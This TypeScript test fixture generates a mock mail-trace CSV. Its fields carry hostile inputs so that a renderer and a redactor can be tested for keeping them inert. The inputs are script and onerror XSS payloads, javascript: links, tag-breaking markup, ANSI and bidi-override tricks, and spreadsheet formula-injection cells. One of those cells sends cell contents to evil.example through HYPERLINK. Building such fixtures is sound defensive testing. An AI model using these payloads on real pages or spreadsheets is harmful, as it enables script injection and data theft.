/**
 * An Extended message trace export (the admin center's columns, UTF-8) whose subjects, senders and
 * failure texts are hostile: markup, script, event handlers, javascript: links, a </style>, ANSI
 * escapes, bidi overrides, and spreadsheet formulas. What a renderer must keep inert.
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';

export const HOSTILE = [
  '<script>window.__pwned = 1</script>',
  '<img src=x onerror="window.__pwned = 2">',
  '<a href="javascript:window.__pwned = 3">click</a>',
  '</style><style>body { display: none }</style>',
  '</code></td></tr></table><h1 id="injected">INJECTED</h1>',
  '\u001b[31mRED\u001b]0;title\u0007',
  'invoice\u202Efdp.exe',
] as const;

/** Cells a spreadsheet would run as formulas (OWASP CSV injection). */
export const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+1', '-2+3', '@SUM(1,1)', '\t=1+1', '\r=1+1'];

const HEADER =
  'date_time_utc,client_ip,server_ip,event_id,message_id,network_message_id,recipient_address,recipient_status,' +
  'total_bytes,message_subject,sender_address,directionality,original_client_ip,custom_data';

function csvField(value: string): string {
  return /[",\r\n]/.test(value) ? `"${value.replace(/"/g, '""')}"` : value;
}

export interface HostileTrace {
  path: string;
  /** personal addresses in the trace (for redaction tests) */
  personal: string[];
  failed: number;
}

/** Writes the export to `dir`; one failed delivery per hostile string and per formula, and some delivered ones. */
export function writeHostileTrace(dir: string, name = 'hostile-extended.csv'): HostileTrace {
  const rows = [HEADER];
  const personal: string[] = [];
  const values = [...HOSTILE, ...FORMULAS];
  values.forEach((v, i) => {
    const id = `aaaaaaaa-0000-4000-8000-${String(i).padStart(12, '0')}`;
    const msgId = `<hostile${i}@contoso.example>`;
    const sender = `user.${i}.sender@contoso.example`;
    const recipient = `person.${i}@fabrikam.example`;
    personal.push(sender, recipient);
    const at = `2026-11-${String(10 + (i % 5)).padStart(2, '0')}T09:${String(i).padStart(2, '0')}:00.000Z`;
    const text = `[{LED=550 5.7.1 ${v} rejected for ${recipient}};{MSG=};{FQDN=mx.fabrikam.example};{IP=198.51.100.9};{LRT=}]`;
    const base = (time: string, event: string, status: string) =>
      [
        time,
        '192.0.2.44',
        '198.51.100.9',
        event,
        msgId,
        id,
        recipient,
        status,
        '2048',
        v,
        sender,
        'Originating',
        '192.0.2.44',
        '',
      ]
        .map(csvField)
        .join(',');
    rows.push(base(at, 'RECEIVE', ''));
    rows.push(base(at.replace(':00.000Z', ':30.000Z'), 'FAIL', text));
    // a delivered message from the same sender, so the totals have both
    const okId = `bbbbbbbb-0000-4000-8000-${String(i).padStart(12, '0')}`;
    rows.push(
      [
        at,
        '192.0.2.44',
        '',
        'DELIVER',
        `<ok${i}@contoso.example>`,
        okId,
        `colleague.${i}@contoso.example`,
        '',
        '100',
        'ok',
        sender,
        'Originating',
        '',
        '',
      ]
        .map(csvField)
        .join(','),
    );
    personal.push(`colleague.${i}@contoso.example`);
  });
  // role addresses keep their name when redacted
  rows.push(
    [
      '2026-11-12T10:00:00.000Z',
      '',
      '',
      'FAIL',
      '<role@contoso.example>',
      'cccccccc-0000-4000-8000-000000000001',
      'postmaster@fabrikam.example',
      '[{LED=550 5.1.1 RESOLVER.ADR.RecipNotFound; not found};{MSG=}]',
      '100',
      'to the postmaster',
      'noreply@contoso.example',
      'Originating',
      '',
      '',
    ]
      .map(csvField)
      .join(','),
  );
  const path = join(dir, name);
  writeFileSync(path, rows.join('\r\n') + '\r\n', 'utf8');
  return { path, personal, failed: values.length + 1 };
}
